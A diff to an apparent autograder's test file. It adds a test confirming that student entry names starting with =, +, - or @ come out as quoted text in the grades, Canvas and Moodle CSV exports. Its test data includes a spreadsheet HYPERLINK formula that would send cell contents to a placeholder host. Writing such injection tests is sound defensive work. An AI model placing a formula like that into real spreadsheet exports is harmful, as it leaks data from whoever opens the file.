@@ -8,6 +8,7 @@ document for their gradebook imports.
 import csv
 import io
 import re
+from pathlib import Path
 from collections import Counter
 
 import pytest
@@ -137,3 +138,19 @@ def test_the_summary_speaks_french(klass):
         set_language("en")
     assert "# Bilan de la classe\u00a0: Attention" in text and "| note maximale |" in text
     assert "moyenne 3,54 / 8" in shown and "30 étudiant(s), 26 corrigé(s)" in shown
+
+
+def test_an_entry_named_like_a_formula_stays_text_in_every_spreadsheet(tmp_path):
+    """A student who names their entry `=HYPERLINK(...)` (or +, -, @) gets a text cell in grades.csv, canvas.csv and
+    moodle.csv, never a formula the instructor's spreadsheet would run."""
+    from autograder.classroom.batch import grades_csv
+    from autograder.course.manifest import load_course
+
+    names = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "ann"]
+    reports = {name: report("right") for name in names}
+    course = load_course(Path(__file__).resolve().parent.parent)
+    cells = {"grades.csv": [row[0] for row in _rows(grades_csv(course, reports))[1:]],
+             "canvas.csv": [row[0] for row in _rows(canvas_csv(reports, "Attention", 100))[2:]],
+             "moodle.csv": [row[0] for row in _rows(moodle_csv(reports, "Attention"))[1:]]}
+    for file, column in cells.items():
+        assert sorted(column) == sorted("'" + name if name != "ann" else name for name in names), (file, column)
